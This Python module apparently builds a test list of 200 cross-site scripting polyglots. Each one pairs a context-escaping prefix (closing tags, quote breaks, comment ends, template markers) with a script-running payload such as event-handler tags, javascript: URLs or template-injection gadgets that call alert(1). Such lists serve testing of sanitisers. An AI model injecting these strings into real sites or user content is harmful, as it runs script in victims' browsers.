"""Texts that would run alert() wherever one of them is taken for markup, script, style or an address."""

from __future__ import annotations

import itertools

# What ends the place a text was put into.
ENDINGS = [
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "*/",
    "`",
    "</code></td>",
    '" autofocus tabindex=1 onfocus=alert(1) x="',
    "' autofocus tabindex=1 onfocus=alert(1) x='",
    # Not at the beginning, where no identifier may have it.
    "//\u2028",
    "{{7*7}}{%raw%}",
    "&lt;&#x3c;",
]
# What runs, once it is out.
RUNNERS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=alert(1)>",
    "javascript:alert(1)",
    "';alert(1);//",
    '";alert(1);//',
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<math><mi xlink:href='javascript:alert(1)'>",
]
POLYGLOTS = [end + run for end, run in itertools.product(ENDINGS, RUNNERS)][:200]
assert len(set(POLYGLOTS)) == 200
